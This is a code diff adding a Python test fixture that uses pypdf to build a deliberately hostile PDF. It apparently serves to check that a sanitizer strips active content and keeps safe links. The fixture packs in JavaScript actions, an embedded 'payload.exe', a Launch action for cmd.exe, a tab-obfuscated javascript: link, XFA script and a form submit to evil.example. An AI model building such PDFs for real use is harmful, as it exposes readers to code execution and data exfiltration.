@@ -204,3 +204,161 @@ def image_bomb_pdf(path: Path, side: int = 40_000) -> Path:
         )
     )
     return path
+
+
+SAFE_LINK = "https://example.org/worksheet"
+
+
+def hostile_pdf(path: Path, pages: int = 3) -> Path:
+    """A PDF with every kind of active content an attacker would try, beside a plain web link
+    and a link inside the document that must survive. Made here, with pypdf's objects."""
+    from pypdf.generic import (
+        ArrayObject,
+        DecodedStreamObject,
+        DictionaryObject,
+        FloatObject,
+        NameObject,
+        NumberObject,
+        TextStringObject,
+    )
+
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes(pages, "Hostile"))))
+
+    def name(text: str) -> NameObject:
+        return NameObject(text)
+
+    def action(kind: str, **entries) -> DictionaryObject:
+        return DictionaryObject(
+            {
+                name("/Type"): name("/Action"),
+                name("/S"): name(kind),
+                **{name(k): v for k, v in entries.items()},
+            }
+        )
+
+    def js(code: str) -> DictionaryObject:
+        return action("/JavaScript", **{"/JS": TextStringObject(code)})
+
+    def ref(obj):
+        return writer._add_object(obj)
+
+    def rect(x: float) -> ArrayObject:
+        return ArrayObject([FloatObject(x), FloatObject(700), FloatObject(x + 40), FloatObject(740)])
+
+    embedded = DecodedStreamObject()
+    embedded.set_data(b"MZ pretend this is a program")
+    embedded[name("/Type")] = name("/EmbeddedFile")
+    filespec = DictionaryObject(
+        {
+            name("/Type"): name("/Filespec"),
+            name("/F"): TextStringObject("payload.exe"),
+            name("/EF"): DictionaryObject({name("/F"): ref(embedded)}),
+        }
+    )
+    root = writer.root_object
+    root[name("/OpenAction")] = ref(js("app.alert('open')"))
+    root[name("/AA")] = DictionaryObject({name("/WC"): ref(js("app.alert('close')"))})
+    root[name("/Names")] = DictionaryObject(
+        {
+            name("/JavaScript"): DictionaryObject(
+                {name("/Names"): ArrayObject([TextStringObject("init"), ref(js("app.alert('doc')"))])}
+            ),
+            name("/EmbeddedFiles"): DictionaryObject(
+                {name("/Names"): ArrayObject([TextStringObject("payload.exe"), ref(filespec)])}
+            ),
+        }
+    )
+    root[name("/AF")] = ArrayObject([ref(filespec)])
+    xfa = DecodedStreamObject()
+    xfa.set_data(b"<xdp:xdp><script>app.alert('xfa')</script></xdp:xdp>")
+    field = DictionaryObject(
+        {
+            name("/Type"): name("/Annot"),
+            name("/Subtype"): name("/Widget"),
+            name("/FT"): name("/Tx"),
+            name("/T"): TextStringObject("Name"),
+            name("/Rect"): rect(200),
+            name("/AA"): DictionaryObject({name("/K"): ref(js("event.rc = true"))}),
+        }
+    )
+    submit = DictionaryObject(
+        {
+            name("/Type"): name("/Annot"),
+            name("/Subtype"): name("/Widget"),
+            name("/FT"): name("/Btn"),
+            name("/Ff"): NumberObject(65536),
+            name("/T"): TextStringObject("Send"),
+            name("/Rect"): rect(260),
+            name("/A"): ref(
+                action("/SubmitForm", **{"/F": TextStringObject("https://evil.example/collect")})
+            ),
+        }
+    )
+    field_ref, submit_ref = ref(field), ref(submit)
+    root[name("/AcroForm")] = DictionaryObject(
+        {name("/Fields"): ArrayObject([field_ref, submit_ref]), name("/XFA"): ref(xfa)}
+    )
+    first = writer.pages[0]
+    first_ref = first.indirect_reference
+    annotations = [
+        DictionaryObject(  # launches a program
+            {
+                name("/Type"): name("/Annot"),
+                name("/Subtype"): name("/Link"),
+                name("/Rect"): rect(20),
+                name("/A"): ref(action("/Launch", **{"/F": TextStringObject("cmd.exe")})),
+            }
+        ),
+        DictionaryObject(  # a javascript: address, hidden behind a tab
+            {
+                name("/Type"): name("/Annot"),
+                name("/Subtype"): name("/Link"),
+                name("/Rect"): rect(80),
+                name("/A"): action("/URI", **{"/URI": TextStringObject("java\tscript:alert(1)")}),
+            }
+        ),
+        DictionaryObject(  # a plain web link: stays
+            {
+                name("/Type"): name("/Annot"),
+                name("/Subtype"): name("/Link"),
+                name("/Rect"): rect(140),
+                name("/A"): action("/URI", **{"/URI": TextStringObject(SAFE_LINK)}),
+            }
+        ),
+        DictionaryObject(  # a link to page 2, then a script chained after it: the link stays
+            {
+                name("/Type"): name("/Annot"),
+                name("/Subtype"): name("/Link"),
+                name("/Rect"): rect(320),
+                name("/A"): action(
+                    "/GoTo",
+                    **{
+                        "/D": ArrayObject([writer.pages[min(1, pages - 1)].indirect_reference, name("/Fit")]),
+                        "/Next": ArrayObject([ref(js("app.alert('next')")), ref(action("/ImportData"))]),
+                    },
+                ),
+            }
+        ),
+        DictionaryObject(  # an attached file on the page
+            {
+                name("/Type"): name("/Annot"),
+                name("/Subtype"): name("/FileAttachment"),
+                name("/Rect"): rect(380),
+                name("/FS"): ref(filespec),
+            }
+        ),
+        field_ref,
+        submit_ref,
+    ]
+    first[name("/Annots")] = ArrayObject(
+        ref(a) if isinstance(a, DictionaryObject) else a for a in annotations
+    )
+    first[name("/AA")] = DictionaryObject({name("/O"): ref(js("app.alert('page')"))})
+    for widget in (field, submit):
+        widget[name("/P")] = first_ref
+    writer.add_outline_item("Chapter", 0)
+    outline = writer.root_object["/Outlines"].get_object()["/First"].get_object()
+    outline[name("/A")] = ref(js("app.alert('outline')"))
+    with path.open("wb") as out:
+        writer.write(out)
+    return path
